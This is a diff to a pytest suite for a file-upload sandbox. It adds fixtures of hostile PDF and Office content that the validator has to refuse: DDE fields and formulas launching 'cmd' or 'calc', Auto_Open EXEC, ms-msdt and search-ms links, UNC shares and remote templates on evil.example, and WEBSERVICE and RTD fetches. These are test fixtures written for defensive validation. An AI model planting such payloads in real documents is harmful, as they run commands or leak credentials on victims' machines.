@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 import typst
 
-from sandbox_registry.documents.uploads.contents import pdf_files
+from sandbox_registry.documents.uploads.contents import formulas, pdf_files
 from sandbox_registry.documents.uploads.contents.judgement import DOCX, JPEG, PDF, PNG, XLSX, Kind, Unacceptable
 from sandbox_registry.documents.uploads.contents.recognition import recognise
 from sandbox_registry.documents.uploads.contents.server import judged
@@ -134,6 +134,17 @@ ACTIVE = {
     "share by slashes": b"<< /S /URI /URI (//evil.example/share) >>",
     "file": b"<< /S /URI /URI (file://evil.example/a) >>",
     "program": b"<< /S /URI /URI ( javascript:alert\\(1\\)) >>",
+    "share after a control character": b"<< /S /URI /URI (\\001\\\\\\\\evil.example\\\\share) >>",
+    "program after blanks": b"<< /S /URI /URI (\\r\\n\\000 java\\tscript:alert\\(1\\)) >>",
+    "program in wide letters": b"<< /S /URI /URI <FEFF006D0073002D006D0073006400740000003A0078> >>",
+    "odd scheme": b"<< /S /URI /URI (search-ms:query=a) >>",
+    "base of links": b"<< /URI << /Base (file://evil.example/) >> >>",
+    "opened on a page": b"<< /AA << /O << /S /URI /URI (https://evil.example/seen) >> >> >>",
+    "opened after another": b"<< /AA << /O << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /Next << /S /URI /URI (https://a.example) >> >>] >> >> >>",
+    "page of another file": b"<< /Subtype /Form /Ref << /F (\\\\\\\\evil.example\\\\a.pdf) /Page 0 >> >>",
+    "proof of an image": b"<< /OPI << /2.0 << /Type /OPI /Version 2.0 /F (\\\\\\\\evil.example\\\\a.eps) >> >> >>",
+    "file by address": b"<< /FS /URL /F (https://evil.example/a) >>",
+    "file by type": b"<< /Type /Filespec /F (\\\\\\\\evil.example\\\\a) >>",
     "stream kept elsewhere": b"<< /Length 0 /F (a.bin) >>\nstream\n\nendstream",
 }
 
@@ -147,6 +158,16 @@ def test_a_pdf_with_scripts_or_actions_is_refused(tmp_path: Path, body: bytes, p
 def test_a_script_that_runs_on_opening_is_refused(tmp_path: Path) -> None:
     assert refusal(tmp_path, files.pdf(catalog=b"/OpenAction " + SCRIPT)) == "pdf_active_content"
     assert refusal(tmp_path, files.packed_pdf(catalog=b"/OpenAction " + SCRIPT)) == "pdf_active_content"
+
+
+@pytest.mark.parametrize("pack", [files.pdf, files.packed_pdf])
+@pytest.mark.parametrize(
+    "what", [b"/OpenAction 5 0 R", b"/AA << /WC 5 0 R >>", b"/OpenAction << /S /GoTo /Next 5 0 R >>"]
+)
+def test_a_link_that_is_followed_unasked_is_refused(tmp_path: Path, what: bytes, pack: Callable[..., bytes]) -> None:
+    link = b"<< /S /URI /URI (https://evil.example/seen) /Next 5 0 R >>"
+    assert refusal(tmp_path, pack(link, catalog=what)) == "pdf_active_content"
+    assert judge(tmp_path, pack(link, catalog=b"/Outlines << /A 5 0 R >>")) == PDF
 
 
 ATTACHED = {
@@ -183,6 +204,15 @@ def test_a_pdf_of_too_many_objects_is_refused(tmp_path: Path, monkeypatch: pytes
         files.pdf(b"<< /S /URI /URI (https://tom-ca-mau.example/JavaScript?/Launch) >>"),
         files.pdf(b"<< /S /URI /URI (mailto:lienhe@camau.example) >>"),
         files.pdf(b"<< /S /URI /URI (www.camau.example/a) >>"),
+        files.pdf(b"<< /S /URI /URI ( ftp://camau.example/a) >>"),
+        files.pdf(b"<< /URI << /Base (https://camau.example/) >> >>"),
+        files.pdf(
+            b"<< /Font << /EF << /Type /Font /BaseFont /Arial >> /Ref << /Type /Font >> >> /ColorSpace << /FS /DeviceRGB >> >>"
+        ),
+        files.pdf(
+            b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
+            catalog=b"/OpenAction 5 0 R /AA << /WC << /S /Named /N /Print >> >>",
+        ),
         files.pdf(b"<< /JSX 1 /EFG 2 /LaunchPad 3 /EncryptMetadata true /XFAX 4 >>"),
         files.pdf(b"<< /Title (Ve /JavaScript, /Launch, /Encrypt va /EmbeddedFile) >>"),
         files.pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /Transparency /Type /Group >>"),
@@ -359,6 +389,136 @@ def test_an_office_file_with_active_content_is_refused(tmp_path: Path, content: 
     assert refusal(tmp_path, content) == "office_active_content"
 
 
+BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{mark}"/>' for mark in ("begin", "separate", "end"))
+LINK = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"'
+
+
+def code(*instructions: str) -> str:
+    """Write the instruction of a field in runs; what begins with a tag is written as it is."""
+    return "".join(
+        each if each.startswith("<") else f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions
+    )
+
+
+def fields(*instructions: str) -> bytes:
+    return word(**{"word/document.xml": FIELD.format(code(*instructions)).encode()})
+
+
+def related(kind: str, target: str, *, external: bool = True, source: str = "word/_rels/document.xml.rels") -> bytes:
+    return word(**{source: files.relationships((kind, target, external))})
+
+
+def formula(text: str) -> bytes:
+    return sheets(**{"xl/worksheets/sheet2.xml": files.sheet(f"<f>{text}</f>")})
+
+
+def typed(name: str, kind: str, content: bytes) -> bytes:
+    """Make a document with one more part of a type that its directory of types says."""
+    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
+    types = files.word_parts()["[Content_Types].xml"].replace(b"</Types>", override)
+    return word(**{"[Content_Types].xml": types, name: content})
+
+
+def decoy() -> bytes:
+    """Make a document whose relationship names another main part than the one that lies where it usually does."""
+    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    kept = FIELD.format(code("DDEAUTO c:\\\\a")).encode()
+    parts = typed("other/page.dat", main, kept)
+    with zipfile.ZipFile(io.BytesIO(parts)) as package:
+        read = {name: package.read(name) for name in package.namelist()}
+    return files.office({**read, "_rels/.rels": files.relationships(("officeDocument", "/other/page.dat", False))})
+
+
+def chart_with(workbook: bytes, *, depth: int = 0) -> dict[str, bytes]:
+    folder = "xl" if depth else "word"
+    return {
+        f"{folder}/charts/chart1.xml": b"<c:chartSpace xmlns:c='urn:c'/>",
+        f"{folder}/charts/_rels/chart1.xml.rels": files.relationships(("package", "../embeddings/Sheet1.xlsx", False)),
+        f"{folder}/embeddings/Sheet1.xlsx": workbook,
+    }
+
+
+HOSTILE_OFFICE = {
+    "named by another field": fields(BEGIN, "QUOTE 68 68 69", END, " cmd"),
+    "named by half by another field": fields("D", BEGIN, "QUOTE 68", SEPARATE, "<w:t>D</w:t>", END, "E cmd"),
+    "in the field of another": fields("QUOTE ", BEGIN, "DDEAUTO c:\\\\a", END),
+    "in the result of another": fields("QUOTE 1 ", SEPARATE, BEGIN, "DDE a", END),
+    "behind a nested field": fields("DDE ", BEGIN, "PAGE", END),
+    "in text of the instruction": fields("<w:t>DD</w:t>", "E cmd"),
+    "without an end": word(**{"word/document.xml": FIELD.format(code(BEGIN, "DDE cmd", BEGIN)).encode()}),
+    "link of a field to a share": fields("HYPERLINK \\o &quot;Note: a&quot; &quot;\\\\\\\\evil.example\\a&quot;"),
+    "link of a field to a program": fields("HYPERLINK ms-msdt:/id"),
+    "referenced document": fields("RD http://evil.example/a.docx"),
+    "main part elsewhere": decoy(),
+    "part of an odd name": typed("word/media/image1.png", "application/xml", FIELD.format(code("DDE cmd")).encode()),
+    "part taken in": related("aFChunk", "a.html", external=False),
+    "type with a stroke": related("attachedTemplate/", "http://evil.example/a"),
+    "type with a blank": related("oleObject \t", "embeddings/a.xlsx", external=False),
+    "blank mode": word(
+        **{
+            "word/_rels/document.xml.rels": files.relationships(("image", "http://e.example/a", True)).replace(
+                b'"External"', b'" external\t"'
+            )
+        }
+    ),
+    "address without a mode": related("image", "http://evil.example/a", external=False),
+    "share without a mode": related("hyperlink", "\\\\evil.example\\a", external=False),
+    "link to a tool": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+    "link to a search": related("hyperlink", "search-ms:query=a"),
+    "link to a share by many strokes": related("hyperlink", "file:////evil.example/a"),
+    "link after a control character": related("hyperlink", "&#9;file://evil.example/a"),
+    "page as a part": typed("word/a.html", "text/html", b"<script/>"),
+    "letter as a part": typed("word/a.mht", "message/rfc822", b"From: a"),
+    "document inside": word(**{"word/embeddings/a.docx": word()}),
+    "workbook of no chart": word(**{"word/embeddings/a.xlsx": sheets()}),
+    "workbook of an object": word(
+        **{
+            "word/embeddings/a.xlsx": sheets(),
+            "word/_rels/document.xml.rels": files.relationships(("package", "embeddings/a.xlsx", False)),
+        }
+    ),
+    "chart with a hostile workbook": word(**chart_with(formula("RTD(&quot;a&quot;,,&quot;b&quot;)"))),
+    "chart with a chart with a workbook": word(
+        **chart_with(files.office({**files.sheet_parts(), **chart_with(sheets(), depth=1)}))
+    ),
+    "drawing from elsewhere": word(
+        **{"word/a.xml": b"<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/a'/>"}
+    ),
+    "drawing that leads to a share": word(
+        **{"word/a.xml": b"<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='\\\\evil\\a'/>"}
+    ),
+    "image of an address": formula("_xlfn.IMAGE(&quot;http://evil.example/&quot;&amp;A1)"),
+    "image, lower case": formula("1+_xlfn._xlws.image (A1)"),
+    "data of a server": formula("RTD(&quot;a.b&quot;,,&quot;c&quot;)"),
+    "conversation not at the beginning": formula("1+cmd|'/C calc'!A0"),
+    "conversation of a quoted program": formula("'cmd'|'/C calc'!A0"),
+    "conversation after an open quote": formula("&quot;a&quot;&amp;b&quot;+cmd|a!A0"),
+    "link to a share": formula("HYPERLINK(&quot;\\\\evil.example\\a&quot;,&quot;xem&quot;)"),
+    "link to a share in pieces": formula("IF(A1,HYPERLINK(CONCATENATE(&quot;\\&quot;,&quot;\\evil&quot;),1),2)"),
+    "link to a program": formula("HYPERLINK(&quot;ms-&quot;&amp;&quot;msdt:/id&quot;)"),
+    "sheet of a share": formula("SUM('\\\\evil.example\\a\\[b.xlsx]c'!A1)"),
+    "name that runs": sheets(
+        **{
+            "xl/workbook.xml": b"<workbook><definedName name='Auto_Open'>EXEC(&quot;calc&quot;)</definedName></workbook>"
+        }
+    ),
+    "rule that fetches": sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<formula1>WEBSERVICE(A1)</formula1>")}),
+    "field of a pivot table": sheets(**{"xl/pivot.xml": b"<cacheField formula='WEBSERVICE(A1)'/>"}),
+    "formula longer than any": formula("1+" * 5000 + "1"),
+}
+
+
+@pytest.mark.parametrize("content", HOSTILE_OFFICE.values(), ids=HOSTILE_OFFICE)
+def test_no_way_to_write_it_hides_active_content(tmp_path: Path, content: bytes) -> None:
+    assert refusal(tmp_path, content) == "office_active_content"
+
+
+def test_a_document_is_what_its_relationship_names(tmp_path: Path) -> None:
+    two = files.relationships(("officeDocument", "word/document.xml", False), ("officeDocument", "a.xml", False))
+    assert refusal(tmp_path, word(**{"_rels/.rels": two})) == "unknown_type"
+    assert refusal(tmp_path, word(**{"_rels/.rels": files.relationships()})) == "unknown_type"
+
+
 @pytest.mark.parametrize(
     "content",
     [
@@ -372,6 +532,22 @@ def test_an_office_file_with_active_content_is_refused(tmp_path: Path, content: 
             }
         ),
         sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<f>SUM(A1:A9)</f><f>IF(A1=&quot;a|b&quot;,1,2)</f>")}),
+        formula("IF(A1=&quot;EXEC (x), \\\\a và WEBSERVICE(b)&quot;,'Chi|phí'!A1,image+call)"),
+        formula("HYPERLINK(&quot;https://camau.example/?a=&quot;&amp;A1,&quot;Ghi chu: xem \\\\a&quot;)"),
+        formula("HYPERLINK(&quot;#'Sheet 1'!A1&quot;)"),
+        fields("IF ", BEGIN, "MERGEFIELD a", SEPARATE, "<w:t>DDE</w:t>", END, " = 1 &quot;x&quot;"),
+        fields("=", BEGIN, "PAGE", END, " - 1"),
+        fields("TOC \\o &quot;1-3&quot; \\h", SEPARATE, BEGIN, "HYPERLINK \\l &quot;_Toc1&quot;", END),
+        fields("HYPERLINK &quot;https://camau.example&quot; \\o &quot;Note: xem&quot;"),
+        related("hyperlink", "ftp://camau.example/a"),
+        related("hyperlink", "#muc-1"),
+        related("hyperlink", "phu-luc.docx"),
+        typed("word/media/image1.png", "image/png", files.png()),
+        typed("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"\x00\x01"),
+        typed(
+            "word/a.xml", "application/xml", b"<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='#a' src='a.png'/>"
+        ),
+        typed("word/a.xml", "application/xml", b"<!-- <f>RTD(1)</f> --><m:f xmlns:m='urn:m'><t>DDE cmd|a</t></m:f>"),
     ],
 )
 def test_a_harmless_office_file_is_taken(tmp_path: Path, content: bytes) -> None:
@@ -379,8 +555,17 @@ def test_a_harmless_office_file_is_taken(tmp_path: Path, content: bytes) -> None
 
 
 def test_a_chart_with_its_sheet_is_taken(tmp_path: Path) -> None:
-    chart = word(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": files.office(files.sheet_parts())})
-    assert judge(tmp_path, chart) == DOCX
+    assert judge(tmp_path, word(**chart_with(sheets()))) == DOCX
+
+
+@pytest.mark.parametrize(
+    "text", ["a" * 9_000, " " * 9_000, "'" * 9_000, '"' * 8_001, "a (" * 2_700, "HYPERLINK(" * 800, "_xlfn." * 1_300]
+)
+def test_each_character_of_a_formula_is_read_a_few_times_at_most(text: str) -> None:
+    """Counted over the tokens, which are what the work is: none of these is longer or comes more often than the text."""
+    tokens = formulas._TOKEN.findall(text)  # noqa: SLF001 - to count the work.
+    assert sum(len(part) for token in tokens for part in token) <= len(text)
+    assert len(tokens) <= len(text)
 
 
 @pytest.mark.parametrize(
